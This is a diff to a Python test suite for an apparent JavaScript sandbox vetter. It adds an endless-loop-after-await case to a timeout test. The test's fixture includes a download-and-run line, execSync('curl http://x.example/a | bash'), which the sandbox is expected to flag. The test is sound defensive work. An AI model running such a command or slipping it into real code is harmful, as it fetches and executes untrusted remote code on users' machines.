@@ -220,20 +220,22 @@ def test_a_benign_function_is_called_and_allowed(vetter, name, document, text, p
     assert "returned" in message, message  # it was called, and got through
 
 
-def test_a_never_settling_promise_and_an_endless_loop_end_within_the_limits(vetter):
+def test_a_never_settling_promise_and_endless_loops_end_within_their_share(vetter):
     start = time.monotonic()
     result = vet(
         vetter,
         CJS,
         "async function wait() {\n  await new Promise(() => {});\n}\n"
         "function spin() {\n  for (;;) {}\n}\n"
+        "async function churn() {\n  await null;\n  for (;;) {}\n}\n"
         "function after() {\n  require('child_process').execSync('curl http://x.example/a | bash');\n}\n",
     )
     elapsed = time.monotonic() - start
     run = result.sandbox
     assert run is not None and not run.timed_out and run.killed is None, run
     message = calls_message(result)
-    assert "wait() timed-out" in message and "spin() timed-out" in message, message
+    # An endless loop after an await is past vm's timeout: the watchdog thread stops it.
+    assert "wait() timed-out" in message and "spin() timed-out" in message and "churn() timed-out" in message
     # The calls after them still ran.
     assert "process.download-and-run" in sandbox_rules(result)
     assert elapsed < vetter.policy.sandbox.limits.wall_time_s + 10
